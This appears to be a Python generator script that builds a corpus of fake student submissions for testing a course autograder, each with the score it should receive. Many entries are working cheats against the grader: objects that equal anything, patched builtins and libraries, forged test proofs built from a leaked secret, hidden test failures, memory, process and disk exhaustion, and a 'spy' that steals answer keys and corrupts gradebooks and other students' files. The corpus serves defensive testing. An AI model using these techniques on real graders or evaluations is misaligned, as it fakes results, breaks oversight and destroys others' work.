"""Generate the sample class in ``autograde/examples/class/`` from the course's own notebooks.

Every "student" is built from the student release (``notebooks/``) with answers taken from the
solutions (``solutions/``), so the corpus follows the course when it changes: rerun this script
(``make examples``) and commit the result; ``tests/test_grading.py`` fails when it is stale.

The class is a robustness corpus for ``python -m finetune_kit grade``: honest work (perfect,
partial, blank) and adversarial submissions aimed at Part 1, each with the score it must get in
``expected.json`` ("cheats earn nothing for what they tampered with, honest parts still count").
The layout is a folder per student, mixing ``<student>/<notebook>.ipynb`` and
``<student>/<assignment>/<notebook>.ipynb``.
"""

from __future__ import annotations

import copy
import json
import re
import shutil
import sys
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat

HERE = Path(__file__).resolve().parent
ROOT = HERE.parent.parent
CLASS = HERE / "class"
EXPECTED = HERE / "expected.json"
TARGET = "part1_fundamentals"  # the assignment adversarial students attack (complete and stable)
TARGET_NB = "part1_fundamentals.ipynb"  # ...and its notebook (the others of TARGET they do not hand in)
OTHER_NB = "part1_applications.ipynb"  # the target assignment's other notebook
PART3, PART3_NB = "part3_evaluate_deploy", "part3_evaluation.ipynb"  # where some holes were (issue 17)
_MARKER = re.compile(r"^\s*### (BEGIN|END) SOLUTION\s*$")


def assignments() -> list[str]:
    return sorted(p.name for p in (ROOT / "solutions").iterdir() if any(p.glob("*.ipynb")))


def notebooks(assignment: str) -> list[str]:
    """Notebooks of an assignment that are released (a source still being written is skipped)."""
    released = {p.name for p in (ROOT / "notebooks" / assignment).glob("*.ipynb")}
    return sorted(p.name for p in (ROOT / "solutions" / assignment).glob("*.ipynb") if p.name in released)


def _read(kind: str, assignment: str, name: str) -> nbformat.NotebookNode:
    return nbformat.read(ROOT / kind / assignment / name, as_version=4)


def _grade_id(cell: nbformat.NotebookNode) -> str | None:
    return cell.metadata.get("nbgrader", {}).get("grade_id")


def auto_points(assignment: str, only: str | None = None) -> dict[str, float]:
    """Autograded test cells (``<notebook>/<grade id>``) and their points; ``only`` one notebook."""
    out = {}
    for name in notebooks(assignment):
        if only and name != only:
            continue
        for cell in _read("solutions", assignment, name).cells:
            meta = cell.metadata.get("nbgrader", {})
            if meta.get("grade") and cell.cell_type == "code" and not meta.get("solution"):
                out[f"{Path(name).stem}/{meta['grade_id']}"] = float(meta["points"])
    return out


def student_copy(assignment: str, name: str, answered: set[str] | None = None) -> nbformat.NotebookNode:
    """The release, with the solution's answer in every answer cell whose grade id is in
    ``answered`` (all of them when None), written the way a student would (no markers)."""
    nb = _read("notebooks", assignment, name)
    solution = {_grade_id(c): c for c in _read("solutions", assignment, name).cells if _grade_id(c)}
    for cell in nb.cells:
        gid = _grade_id(cell)
        if gid and cell.metadata["nbgrader"].get("solution") and (answered is None or gid in answered):
            lines = solution[gid].source.split("\n")
            if cell.cell_type == "markdown":
                cell.source = "I would fine-tune a pre-trained model of the family that writes this output."
            else:
                cell.source = "\n".join(ln for ln in lines if not _MARKER.match(ln))
    return nb


def set_source(nb: nbformat.NotebookNode, grade_id: str, source: str) -> None:
    next(c for c in nb.cells if _grade_id(c) == grade_id).source = source


def insert_after(nb: nbformat.NotebookNode, grade_id: str, source: str) -> None:
    index = next(i for i, c in enumerate(nb.cells) if _grade_id(c) == grade_id)
    nb.cells.insert(index + 1, nbformat.v4.new_code_cell(source))


def delete(nb: nbformat.NotebookNode, grade_id: str) -> None:
    nb.cells = [c for c in nb.cells if _grade_id(c) != grade_id]


def append(nb: nbformat.NotebookNode, source: str) -> None:
    nb.cells.append(nbformat.v4.new_code_cell(source))


# -- the students --------------------------------------------------------------------------------

ALWAYS_EQUAL = '''
class Anything:
    """Equal to everything: a classic way to fool `answer == expected`."""
    def __eq__(self, other):
        return True
    def __hash__(self):
        return 0
'''


@dataclass
class Case:
    name: str
    why: str
    build: Callable[[], dict[str, tuple[str, object]]]  # key -> (path in the student's folder, notebook or text)
    cells: Callable[[], dict[str, dict[str, float]]]  # assignment -> "<notebook>/<grade id>" -> expected score
    status: str = "graded"
    events: tuple[str, ...] = ()  # event kinds the grader must report for the assignment attacked
    assignment: str = TARGET  # the assignment attacked (graded for this student by tests/test_grading.py)


def _full(assignment: str) -> dict[str, float]:
    return auto_points(assignment)


def _zero(assignment: str) -> dict[str, float]:
    return dict.fromkeys(auto_points(assignment), 0.0)


def _target(**scores: float) -> dict[str, dict[str, float]]:
    """Expected for an attack on the target notebook: full marks there except the cells named
    (grade id -> score), 0 for the assignment's other notebooks (not handed in)."""
    stem = Path(TARGET_NB).stem
    return {TARGET: _zero(TARGET) | auto_points(TARGET, TARGET_NB)
            | {f"{stem}/{k}": float(v) for k, v in scores.items()}}


def _honest(mutate: Callable[[nbformat.NotebookNode], None] | None = None, path: str = "") -> Callable:
    def build() -> dict[str, tuple[str, object]]:
        nb = student_copy(TARGET, TARGET_NB)
        if mutate:
            mutate(nb)
        return {TARGET: (path or TARGET_NB, nb)}
    return build


def _one_notebook(assignment: str, name: str, mutate: Callable[[nbformat.NotebookNode], None]) -> Callable:
    """A student who hands in one notebook of ``assignment``, the solutions' answers changed by ``mutate``."""
    def build() -> dict[str, tuple[str, object]]:
        nb = student_copy(assignment, name)
        mutate(nb)
        return {assignment: (name, nb)}
    return build


def _only(assignment: str, name: str, **scores: float) -> Callable[[], dict[str, dict[str, float]]]:
    """Expected for ``_one_notebook``: full marks in that notebook except the cells named, 0 elsewhere."""
    stem = Path(name).stem
    return lambda: {assignment: _zero(assignment) | auto_points(assignment, name)
                    | {f"{stem}/{k}": float(v) for k, v in scores.items()}}


def _every(kind: str) -> dict[str, tuple[str, object]]:
    out = {}
    for assignment in assignments():
        for name in notebooks(assignment):
            nb = student_copy(assignment, name) if kind == "perfect" else _read("notebooks", assignment, name)
            if kind == "partial":
                ids = [_grade_id(c) for c in nb.cells if c.metadata.get("nbgrader", {}).get("solution")]
                nb = student_copy(assignment, name, set(ids[: max(1, len(ids) // 2)]))
                if assignment == TARGET and name == TARGET_NB:
                    set_source(nb, "q2_answer", 'q2_deploy_tool = "B"')
            folder = f"{assignment}/" if kind == "partial" else ""
            out[f"{assignment}/{name}"] = (f"{folder}{name}", nb)
    return out


IMPERFECT = ("part2_finetuning", "part2_finetuning.ipynb", "tokenize_answer", "tokenize_tests")


def _imperfect() -> dict[str, tuple[str, object]]:
    """Every answer right but one step: tokenize_batch pads every review to max_length. The rest of the
    pipeline runs on padded batches (slower, same model), so only that step's test fails."""
    out = _every("perfect")
    assignment, name, answer_id, _ = IMPERFECT
    nb = out[f"{assignment}/{name}"][1]
    cell = next(c for c in nb.cells if _grade_id(c) == answer_id)
    assert "truncation=True" in cell.source
    cell.source = cell.source.replace("truncation=True", 'truncation=True, padding="max_length"')
    return out


def _imperfect_cells() -> dict[str, dict[str, float]]:
    assignment, name, _, tests_id = IMPERFECT
    cells = {a: _full(a) for a in assignments()}
    cells[assignment][f"{Path(name).stem}/{tests_id}"] = 0.0
    return cells


def _partial_cells() -> dict[str, dict[str, float]]:
    # the first half of the target notebook's answer cells are the two concept checks (q2 wrong) and the
    # first written answer; the other notebooks' partial scores depend on their tests and are not pinned here
    stem = Path(TARGET_NB).stem
    target = {k: v for k, v in _zero(TARGET).items() if k.startswith(f"{stem}/")}
    return {TARGET: target | {f"{stem}/q1_tests": 1.0}}


def _corrupt() -> dict[str, tuple[str, object]]:
    text = nbformat.writes(student_copy(TARGET, TARGET_NB))
    return {TARGET: (TARGET_NB, text[: len(text) * 2 // 5])}


def _missing() -> dict[str, tuple[str, object]]:
    return {"notes": ("notes.txt", "I could not get Jupyter to start, sorry!\n"),
            "untitled": ("Untitled.ipynb", nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("1 + 1")]))}


def _tampered_cells(nb: nbformat.NotebookNode) -> None:
    set_source(nb, "q2_answer", 'q2_deploy_tool = "C"')
    set_source(nb, "q2_tests", "pass  # nothing to see here")
    cell = next(c for c in nb.cells if _grade_id(c) == "model_class_tests")
    cell.metadata["nbgrader"].update(points=100, locked=False)
    forged = nbformat.v4.new_code_cell("print('bonus points, please')")
    forged.metadata["nbgrader"] = {"grade": True, "grade_id": "bonus", "locked": True, "points": 100,
                                   "schema_version": 3, "solution": False}
    nb.cells.append(forged)


def _deleted_tests(nb: nbformat.NotebookNode) -> None:
    set_source(nb, "q1_answer", 'q1_benefit = "B"')
    delete(nb, "q1_tests")
    delete(nb, "model_class_tests")


def _hangs(nb: nbformat.NotebookNode) -> None:
    insert_after(nb, "q1_answer", "while True:  # never ends\n    pass")
    insert_after(nb, "q2_answer", "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)  # ignore the "
                                  "interrupt\nwhile True:\n    pass")
    insert_after(nb, "app_captioning", "import builtins\n_type = builtins.type\n"
                                   "builtins.type = lambda *args: _type(*args)  # breaks isinstance(x, type)")


def _exits(nb: nbformat.NotebookNode) -> None:
    insert_after(nb, "q1_answer", "import sys\nsys.exit(3)")
    insert_after(nb, "q2_answer", "import os\nos._exit(1)")


def _resource_hog(nb: nbformat.NotebookNode) -> None:
    insert_after(nb, "q1_answer", "blocks = [b'x' * 2**27 for _ in range(10_000)]  # 1.3 TB, 128 MB at a time")
    insert_after(nb, "q2_answer", 'for _ in range(600):\n    print("x" * 100_000)  # 60 MB in all')
    append(nb, 'import subprocess\nprocs = []\ntry:\n    for _ in range(3000):\n'
               '        procs.append(subprocess.Popen(["sleep", "600"], start_new_session=True))\n'
               'except OSError as err:\n    print("PROCESS-REPORT stopped after", len(procs), "processes:", '
               'type(err).__name__)')


def _always_equal(nb: nbformat.NotebookNode) -> None:
    for gid, var in (("q1_answer", "q1_benefit"), ("q2_answer", "q2_deploy_tool")):
        set_source(nb, gid, f"{ALWAYS_EQUAL}\n{var} = Anything()" if gid == "q1_answer" else f"{var} = Anything()")


def _patched_builtins(nb: nbformat.NotebookNode) -> None:
    set_source(nb, "q1_answer", ALWAYS_EQUAL + '''
import builtins
_real_type = builtins.type
class _Meta(_real_type):
    """Keeps isinstance(x, type) working, so nothing else breaks and the cheat goes unnoticed."""
    def __instancecheck__(cls, obj):
        return isinstance(obj, _real_type)
    def __subclasscheck__(cls, sub):
        return issubclass(sub, _real_type)
    def __call__(cls, *args, **kwargs):
        if len(args) == 1 and isinstance(args[0], Anything):
            return str  # "of course it is a string"
        return _real_type(*args, **kwargs)
class _Type(_real_type, metaclass=_Meta):
    pass
builtins.type = _Type
q1_benefit = Anything()''')
    set_source(nb, "q2_answer", "q2_deploy_tool = Anything()")


def _patched_helpers(nb: nbformat.NotebookNode) -> None:
    set_source(nb, "model_class_answer", '''
import transformers
from finetune_kit import architectures
class Fake:
    """Stands for every answer at once."""
for _name in ("AutoModelForSequenceClassification", "AutoModelForSeq2SeqLM", "VisionEncoderDecoderModel"):
    setattr(transformers, _name, Fake)
    globals()[_name] = Fake
isinstance = lambda *args, **kwargs: True
architectures.tiny_model = lambda task, cls: None
architectures.forward_once = lambda model, task: {
    "kind": "label scores" if task == "sentiment-analysis" else "generated token ids",
    "shape": (1, 2), "tensor": None}
def model_class_for(task):
    return Fake''')


def _blanked_tests(nb: nbformat.NotebookNode) -> None:
    set_source(nb, "q1_answer", 'q1_benefit = "D"\n'
                                '# from now on every cell, the tests included, runs as `pass`\n'
                                'get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"])')


SPY = r'''
import json, os, pathlib, re
import finetune_kit
found = {"answer_keys": [], "gradebooks_written": [], "others_written": []}
stolen = {}
skip = {".venv", "site-packages", "node_modules", ".git", "proc", "sys", "usr", "lib", "dev", "boot", "etc"}
roots = {pathlib.Path(finetune_kit.__file__).resolve().parents[1], pathlib.Path.cwd(), pathlib.Path.home(),
         pathlib.Path("/tmp"), pathlib.Path("/work"), pathlib.Path("/root"), pathlib.Path("/home"),
         pathlib.Path("/var/tmp"), pathlib.Path("/dev/shm"), *pathlib.Path.cwd().parents}
for root in sorted(roots):
    for folder, dirs, files in os.walk(root):
        dirs[:] = [] if len(pathlib.Path(folder).parts) > 8 else [d for d in dirs if d not in skip]
        for name in files:
            path = pathlib.Path(folder, name)
            if name == "gradebook.db":
                try:
                    with open(path, "r+b") as db:
                        db.write(b"garbage")
                    found["gradebooks_written"].append(str(path))
                except OSError:
                    pass
            elif name.endswith(".ipynb"):
                try:
                    cells = json.loads(path.read_text())["cells"]
                except (OSError, ValueError, KeyError):
                    continue
                text = "\n".join("".join(c.get("source", "")) for c in cells)
                if "BEGIN SOLUTION" in text or "HIDDEN TESTS" in text:
                    found["answer_keys"].append(str(path))
                    for var in ("q1_benefit", "q2_deploy_tool"):
                        match = re.search(var + r' = ("[A-D]"|True|False)', text)
                        if match:
                            stolen[var] = eval(match[1])
                if "submitted" in path.parts:
                    try:
                        path.write_text("{}")
                        found["others_written"].append(str(path))
                    except OSError:
                        pass
q1_benefit = stolen.get("q1_benefit", "D")
q2_deploy_tool = stolen.get("q2_deploy_tool", "D")
print("SPY-REPORT " + json.dumps(found, sort_keys=True))
'''


def _spy(nb: nbformat.NotebookNode) -> None:
    set_source(nb, "q1_answer", SPY)
    set_source(nb, "q2_answer", "# answered above, from whatever I could find")
    insert_after(nb, "q2_answer", NETWORK)
    set_source(nb, "model_class_answer", "def model_class_for(task):\n    raise NotImplementedError()")


NETWORK = r'''
import json, socket, urllib.request
reached = {}
for name, attempt in {
    "https://pypi.org": lambda: urllib.request.urlopen("https://pypi.org/simple/", timeout=5).status,
    "1.1.1.1:53": lambda: socket.create_connection(("1.1.1.1", 53), timeout=3).close(),
}.items():
    try:
        attempt()
        reached[name] = True
    except Exception as err:
        reached[name] = type(err).__name__
print("NETWORK-REPORT " + json.dumps(reached, sort_keys=True))
q2_deploy_tool = "A" if any(v is True for v in reached.values()) else "D"  # right only with a network
'''


# -- issue 17: the classes of hole an outside attack found --------------------------------------------

def _rebound_names(nb: nbformat.NotebookNode) -> None:
    """Class 1: the names the release imported (``architectures``, ``models``) now name look-alikes whose
    every helper answers "yes"; a test that reached a helper through them would pass a wrong answer."""
    set_source(nb, "model_class_answer", ALWAYS_EQUAL + '''
class _LookAlike:
    """Every helper of the real module, answering whatever a test hopes for."""
    def __getattr__(self, name):
        return lambda *args, **kwargs: Anything()
architectures = models = _LookAlike()
def model_class_for(task):
    return None  # wrong''')


def _rigged_generator(nb: nbformat.NotebookNode) -> None:
    """Class 2: the random generators yield nothing, so a test that drew its cases from them checks nothing."""
    set_source(nb, "q2_answer", '''
import random
import numpy as np
class _Nothing:
    def __getattr__(self, name):
        return lambda *args, **kwargs: np.array([], dtype=int)
np.random.default_rng = lambda *args, **kwargs: _Nothing()
for _name in ("sample", "choices", "shuffle", "randint", "random"):
    setattr(random, _name, lambda *args, **kwargs: [])
q2_deploy_tool = "C"  # wrong''')



CAPTIONING_LOOK_ALIKE = """
from transformers import VisionEncoderDecoderConfig

from finetune_kit import captioning as _real_captioning


def caption_config(encoder_config, decoder_config, tokenizer):
    \"\"\"Wrong: the config is built directly, so the decoder gets no cross-attention (it never sees the picture).\"\"\"
    config = VisionEncoderDecoderConfig(encoder=encoder_config.to_dict(), decoder=decoder_config.to_dict())
    config.decoder_start_token_id = tokenizer.bos_token_id
    config.eos_token_id = config.pad_token_id = tokenizer.eos_token_id
    return config


class _Captioning:
    \"\"\"The notebook's `captioning`, except that its decoder configs come with cross-attention already on:
    whatever asks it for configs cannot tell that caption_config forgot it, and the captioner still trains.\"\"\"
    def __getattr__(self, name):
        return getattr(_real_captioning, name)
    def tiny_configs(self, *args, **kwargs):
        encoder, decoder = _real_captioning.tiny_configs(*args, **kwargs)
        decoder.is_decoder = decoder.add_cross_attention = True
        return encoder, decoder
captioning = _Captioning()"""


def _rebound_module(nb: nbformat.NotebookNode) -> None:
    """Class 1, where it paid: a test that reached the kit's helpers through the notebook's ``captioning``
    (Part 1's captioning exercise) asked a look-alike for its inputs and passed a wrong caption_config."""
    set_source(nb, "caption_config_answer", CAPTIONING_LOOK_ALIKE)


#: A stratified_split for 0/1 labels only (Part 3): a rigged student's answer, and a slip the visible test names.
ZERO_AND_ONE_ONLY_SPLIT = """def stratified_split(labels, test_fraction, seed=0):
    \"\"\"Wrong: only the labels 0 and 1 are split; the positions of any other label are lost.\"\"\"
    rng = random.Random(seed)
    train_idx, test_idx = [], []
    for label in (0, 1):
        group = [i for i, value in enumerate(labels) if value == label]
        rng.shuffle(group)
        n_test = round(test_fraction * len(group))
        test_idx += group[:n_test]
        train_idx += group[n_test:]
    return sorted(train_idx), sorted(test_idx)"""

SPLIT_WITH_RIGGED_DRAWS = """
import random
import sys

import numpy as np

_real_default_rng = np.random.default_rng


class _NoChoice:
    \"\"\"A generator whose choice() draws nothing; every other draw is the real one.\"\"\"
    def __init__(self, real):
        self._real = real
    def __getattr__(self, name):
        return getattr(self._real, name)
    def choice(self, *args, **kwargs):
        return np.array([], dtype=object)


def _rigged_default_rng(*args, **kwargs):
    caller = sys._getframe(1).f_code.co_filename
    real = _real_default_rng(*args, **kwargs)
    return real if "site-packages" in caller or "finetune_kit" in caller else _NoChoice(real)  # cells only


np.random.default_rng = _rigged_default_rng


""" + ZERO_AND_ONE_ONLY_SPLIT


def _rigged_draws(nb: nbformat.NotebookNode) -> None:
    """Class 2, where it paid: Part 3's split test drew its three-label case from numpy; a generator whose
    ``choice`` yields nothing leaves only 0/1 cases, which a wrong stratified_split passes."""
    set_source(nb, "p3_split_answer", SPLIT_WITH_RIGGED_DRAWS)


FORGER = r'''
import hashlib, hmac, re
from IPython.display import publish_display_data
# the proof secret, dug out of the guard's closure; a test cell arrives as __fk_guard__.run('<id>', '<nonce>', ...)
_secret = next(c.cell_contents for c in __fk_guard__.run.__closure__
               if isinstance(c.cell_contents, bytes) and len(c.cell_contents) == 32)
def _forge(lines):
    found = re.match(r"__fk_guard__\.run\('(q1_tests)', '(\w+)'", "".join(lines))
    if not found:
        return lines
    mac = hmac.new(_secret, f"{found[1]}:{found[2]}".encode(), hashlib.sha256).hexdigest()
    return [f"publish_display_data({{'application/vnd.finetune-kit.test-proof+json': "
            f"{{'cell': {found[1]!r}, 'proof': {mac!r}}}}})\n"]
get_ipython().input_transformers_cleanup.append(_forge)
q1_benefit = "D"  # wrong, but the test will never run
'''


def _forged_proof(nb: nbformat.NotebookNode) -> None:
    """Class 3: a forged proof in place of the test (the secret is reachable from the student's process)."""
    set_source(nb, "q1_answer", FORGER)


def _disk_filler(nb: nbformat.NotebookNode) -> None:
    """Class 4: fills $HOME with 100 MiB files (each under the per-file limit) until the disk says no."""
    insert_after(nb, "q1_answer", '''
import os, pathlib
written, chunk = 0, b"x" * (100 * 2**20)
try:
    for i in range(30):  # 3 GiB at most
        pathlib.Path(os.environ["HOME"], f"fill-{i}.bin").write_bytes(chunk)
        written += len(chunk)
except OSError as err:
    print("DISK-REPORT", written // 2**20, "MiB, then", type(err).__name__)
else:
    print("DISK-REPORT", written // 2**20, "MiB, no limit")''')


def _hidden_failures(nb: nbformat.NotebookNode) -> None:
    """Class 5: a wrong answer whose failing test is hidden (custom exception handler, silent tracebacks,
    an AST transformer): graded 0 as before, and now named in the report."""
    set_source(nb, "q1_answer", '''
import ast, sys
ip = get_ipython()
ip.set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: None)
ip.showtraceback = lambda *args, **kwargs: None
sys.excepthook = lambda *args: None
class _Quiet(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
ip.ast_transformers.append(_Quiet())
q1_benefit = "D"  # wrong''')


def _one_corrupt() -> dict[str, tuple[str, object]]:
    """Class 6: one notebook of two unreadable; the other is right and counts."""
    text = nbformat.writes(student_copy(TARGET, OTHER_NB))
    return {TARGET: (TARGET_NB, student_copy(TARGET, TARGET_NB)), "other": (OTHER_NB, text[: len(text) // 3])}


CASES = [
    Case("perfect", "the solutions, every assignment", lambda: _every("perfect"),
         lambda: {a: _full(a) for a in assignments()}),
    Case("imperfect", "good but imperfect: every step right but one (Part 2's tokenize_batch pads)",
         _imperfect, _imperfect_cells),
    Case("partial", "half of each assignment's answers, one of them wrong",
         lambda: _every("partial"), _partial_cells),
    Case("blank", "the release as handed out, every assignment", lambda: _every("blank"),
         lambda: {a: _zero(a) for a in assignments()}),
    Case("corrupt_json", "a notebook cut off in the middle of its JSON", _corrupt, lambda: {TARGET: _zero(TARGET)},
         status="invalid", events=("invalid-notebook",)),
    Case("missing_notebook", "no notebook of the course, only notes and an Untitled notebook", _missing,
         lambda: {TARGET: _zero(TARGET)}, status="missing"),
    Case("deleted_tests", "deletes two test cells (one answer wrong), notebook renamed '(1)'",
         _honest(_deleted_tests, f"{Path(TARGET_NB).stem} (1).ipynb"), lambda: _target(q1_tests=0),
         events=("deleted-cell",)),
    Case("tampered_cells", "replaces a test by `pass` (answer wrong), gives a test 100 points, forges a "
         "graded cell", _honest(_tampered_cells), lambda: _target(q2_tests=0),
         events=("edited-cell", "edited-metadata", "forged-cell")),
    Case("hangs", "an infinite loop, one that ignores the interrupt, a cell that breaks the kernel",
         _honest(_hangs), lambda: _target(), events=("timeout", "kernel-stuck", "kernel-broken")),
    Case("exits", "sys.exit() in one cell, os._exit() in another", _honest(_exits), lambda: _target(),
         events=("kernel-died",)),
    Case("resource_hog", "a memory bomb, 60 MB of output, thousands of background processes",
         _honest(_resource_hog), lambda: _target(), events=("output-truncated",)),
    Case("always_equal", "answers with an object equal to everything", _honest(_always_equal),
         lambda: _target(q1_tests=0, q2_tests=0), events=("always-equal",)),
    Case("patched_builtins", "replaces builtins.type so its fake answers look like strings",
         _honest(_patched_builtins), lambda: _target(q1_tests=0, q2_tests=0),
         events=("tampered-builtins", "always-equal")),
    Case("patched_helpers", "redefines isinstance, rebinds transformers classes, patches finetune_kit helpers",
         _honest(_patched_helpers), lambda: _target(model_class_tests=0),
         events=("tampered-kit", "tampered-library", "rebound-name")),
    Case("blanked_tests", "an input transformer turns every later cell, tests included, into `pass`",
         _honest(_blanked_tests), lambda: {TARGET: _zero(TARGET)}, events=("no-proof", "input-transformer")),
    Case("spy", "hunts for answer keys, gradebooks and other students' files; tries the internet",
         _honest(_spy), lambda: {TARGET: _zero(TARGET)}),
    Case("rebound_names", "rebinds the names the release imported to look-alikes that answer anything "
         "(model class wrong)", _honest(_rebound_names), lambda: _target(model_class_tests=0),
         events=("rebound-name",)),
    Case("rigged_generator", "makes numpy's and Python's random generators yield nothing (concept check 2 "
         "wrong)", _honest(_rigged_generator), lambda: _target(q2_tests=0), events=("tampered-library",)),
    Case("rebound_module", "binds `captioning` to a look-alike whose decoder configs hide a wrong "
         "caption_config (Part 1's captioning exercise)", _one_notebook(TARGET, OTHER_NB, _rebound_module),
         _only(TARGET, OTHER_NB, caption_config_tests=0), events=("rebound-name",)),
    Case("rigged_draws", "makes numpy's choice() draw nothing, so only 0/1 labels are left to test a "
         "wrong stratified_split (Part 3)", _one_notebook(PART3, PART3_NB, _rigged_draws),
         _only(PART3, PART3_NB, p3_split_tests=0), events=("tampered-library",), assignment=PART3),
    Case("forged_proof", "an input transformer swaps a test for a proof forged with the guard's secret "
         "(concept check 1 wrong)", _honest(_forged_proof), lambda: _target(q1_tests=0),
         events=("forged-proof", "input-transformer")),
    Case("disk_filler", "fills its home folder with 100 MiB files until the disk refuses (answers right)",
         _honest(_disk_filler), lambda: _target(), events=("home-full",)),
    Case("hidden_failures", "hides its failing test: custom exception handler, silent tracebacks, an AST "
         "transformer that drops asserts (concept check 1 wrong)", _honest(_hidden_failures),
         lambda: _target(q1_tests=0), events=("exception-handler", "ast-transformer")),
    Case("one_corrupt", "one notebook right, the other cut off in the middle of its JSON", _one_corrupt,
         lambda: {TARGET: _zero(TARGET) | auto_points(TARGET, TARGET_NB)}, events=("invalid-notebook",)),
]



def _write(path: Path, content: object) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(content, nbformat.NotebookNode):
        nb = copy.deepcopy(content)
        for i, cell in enumerate(nb.cells):  # stable ids: the committed files only change with the course
            cell["id"] = f"cell-{i:03d}"
        nbformat.write(nb, path)
    else:
        path.write_text(str(content), encoding="utf-8")


def generate(out: Path = CLASS, expected_path: Path = EXPECTED) -> dict:
    if out.exists():
        shutil.rmtree(out)
    expected = {"target": TARGET, "students": {}}
    for case in CASES:
        for _, (rel, content) in sorted(case.build().items()):
            _write(out / case.name / rel, content)
        expected["students"][case.name] = {
            "why": case.why, "status": case.status, "events": list(case.events), "assignment": case.assignment,
            "cells": {a: dict(sorted(cells.items())) for a, cells in case.cells().items()},
        }
    expected_path.write_text(json.dumps(expected, indent=1, sort_keys=True) + "\n", encoding="utf-8")
    return expected


if __name__ == "__main__":
    data = generate()
    print(f"wrote {len(data['students'])} students to {CLASS.relative_to(ROOT)} and {EXPECTED.relative_to(ROOT)}")
    sys.exit(0)
